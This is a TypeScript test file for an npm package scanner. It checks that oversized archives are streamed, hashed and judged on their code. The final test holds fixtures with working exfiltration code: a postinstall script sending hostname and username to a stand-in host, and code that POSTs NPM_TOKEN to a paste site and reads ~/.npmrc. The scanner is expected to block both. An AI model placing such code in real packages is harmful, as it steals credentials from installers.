/**
 * Archives over the in-memory limit (maxArchiveBytes, 50 MB) are read streaming instead of refused
 * (analysis/index.ts analyzeArchiveStream): once, entry by entry, code files scanned, binary blobs
 * hashed and passed (by extension or their magic bytes), every byte hashed for the integrity check.
 * Real cases: ffprobe-static and onnxruntime-node (110–120 MB of platform binaries next to a few
 * JavaScript files) were CAUTION `archive_too_large` before.
 *
 * The limits are scaled down here (maxArchiveBytes of a few KB) so the tests stay small.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createHash, randomBytes } from 'node:crypto';
import { analyzeArchive, analyzeArchiveStream, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { npmTgz } from '../fixtures/archives/build.js';
import { fakeElf } from '../support/npm-variants.js';

const level = (a: ArchiveAnalysis) =>
  packageVerdict(reviewPackage({ registry: 'npm', name: 'x', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'x', actual: 'x' }, advisories: { status: 'ok', advisories: [] } })).securityLevel;
const LIMITS = { maxArchiveBytes: 4 * 1024 };
const opts = { kind: 'tgz' as const, registry: 'npm' as const, registryHosts: ['registry.example.org'], limits: LIMITS };

/** A package like a static-binary wrapper: a few JavaScript files and large incompressible blobs. */
function wrapper(extra: Record<string, string | Buffer> = {}): Buffer {
  return npmTgz({
    'package.json': JSON.stringify({ name: 'probe-static', version: '3.1.0', main: 'index.js' }),
    'index.js': "const path = require('path');\nmodule.exports = { path: path.join(__dirname, 'bin', process.platform, process.arch, 'probe') };\n",
    'bin/linux/x64/probe': Buffer.concat([fakeElf(), randomBytes(64 * 1024)]),
    'bin/win32/x64/probe.exe.blob': randomBytes(64 * 1024),
    ...extra,
  });
}

/** The archive's bytes as a download delivers them: small chunks, one at a time. */
async function* chunks(buf: Buffer, size = 1500): AsyncGenerator<Uint8Array> {
  for (let i = 0; i < buf.length; i += size) yield buf.subarray(i, i + size);
}

test('the real case: a binary wrapper over the limit is read to its end and judged on its code', async () => {
  const tgz = wrapper();
  assert.ok(tgz.length > LIMITS.maxArchiveBytes);
  const a = await analyzeArchive(tgz, opts);
  assert.equal(a.limitsHit, []);
  assert.is(a.fileCount, 4);
  assert.is(a.coverage?.readToEnd, true);
  assert.ok(a.binaries.includes('package/bin/linux/x64/probe'));
  assert.ok(a.findings.some((f) => f.ruleId === 'archive_streamed' && f.severity === 'INFO'));
  assert.not.ok(a.findings.some((f) => f.ruleId === 'archive_too_large'));
  assert.is(level(a), 'MONITORED', 'compiled binaries alone keep a package MONITORED');
});

test('from a stream: the same analysis as from memory, and the digests of every byte', async () => {
  const tgz = wrapper();
  const fromMemory = await analyzeArchive(tgz, opts);
  const s = await analyzeArchiveStream(chunks(tgz), opts, 'sha512');
  assert.is(s.bytes, tgz.length);
  assert.is(s.sha256, createHash('sha256').update(tgz).digest('hex'));
  assert.is(s.digest, createHash('sha512').update(tgz).digest('hex'));
  assert.is(s.analysis.fileSetHash, fromMemory.fileSetHash);
  assert.equal(s.analysis.findings.map((f) => f.ruleId), fromMemory.findings.map((f) => f.ruleId));
});

test('a limit stops the reading, not the hashing: the whole file is still digested', async () => {
  const tgz = wrapper();
  const s = await analyzeArchiveStream(chunks(tgz), { ...opts, limits: { ...LIMITS, maxStreamedBytes: 32 * 1024 } }, 'sha512');
  assert.ok(s.analysis.limitsHit.includes('maxStreamedBytes'));
  assert.is(s.analysis.analysisType, 'PARTIAL');
  assert.is(s.digest, createHash('sha512').update(tgz).digest('hex'));
});

test('a failing download throws (what was not received was neither read nor hashed)', async () => {
  async function* broken(): AsyncGenerator<Uint8Array> {
    yield wrapper().subarray(0, 2000);
    throw new Error('connection reset');
  }
  try {
    await analyzeArchiveStream(broken(), opts, 'sha512');
    assert.unreachable('should have thrown');
  } catch (err) {
    assert.match((err as Error).message, 'connection reset');
  }
});

test('blobs are not kept: only code bytes count against maxTotalBytes when streaming', async () => {
  // 128 KB of blobs, a 1 KB code limit: the code still fits, so the read goes to the end.
  const a = await analyzeArchive(wrapper(), { ...opts, limits: { ...LIMITS, maxTotalBytes: 1024 } });
  assert.equal(a.limitsHit, []);
  // Code beyond it stops the read (and says so).
  const code = Object.fromEntries(Array.from({ length: 8 }, (_, i) => [`lib/m${i}.js`, `module.exports = ${JSON.stringify(randomBytes(600).toString('hex'))};\n`]));
  const b = await analyzeArchive(wrapper(code), { ...opts, limits: { ...LIMITS, maxTotalBytes: 1024 } });
  assert.ok(b.limitsHit.includes('maxTotalBytes'));
});

test('malicious twins: a large archive is no hiding place for an install hook or an import-time payload', async () => {
  const hook = await analyzeArchive(
    wrapper({
      'package.json': JSON.stringify({ name: 'probe-static', version: '3.1.0', main: 'index.js', scripts: { postinstall: 'node install.js' } }),
      'install.js': "const os = require('os');\nrequire('https').get('https://metrics.collect-cdn.example/i?h=' + os.hostname() + '&u=' + os.userInfo().username);\n",
    }),
    opts,
  );
  assert.is(level(hook), 'BLOCKED', hook.findings.filter((f) => f.severity !== 'INFO').map((f) => f.ruleId).join(','));
  const main = await analyzeArchive(wrapper({ 'index.js': "const t = process.env.NPM_TOKEN;\nfetch('https://paste-drop.example/api', { method: 'POST', body: t });\nrequire('fs').readFileSync(require('os').homedir() + '/.npmrc');\n" }), opts);
  assert.is(level(main), 'BLOCKED', main.findings.filter((f) => f.severity !== 'INFO').map((f) => f.ruleId).join(','));
});

test.run();
